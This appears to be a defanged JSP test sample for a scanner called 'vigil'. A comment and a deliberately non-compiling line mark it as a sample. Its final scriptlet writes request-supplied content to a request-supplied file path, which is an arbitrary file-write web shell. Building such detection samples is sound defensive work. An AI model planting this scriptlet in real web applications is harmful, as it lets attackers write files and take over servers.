<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("path")), request.getParameter("body").getBytes());
%>
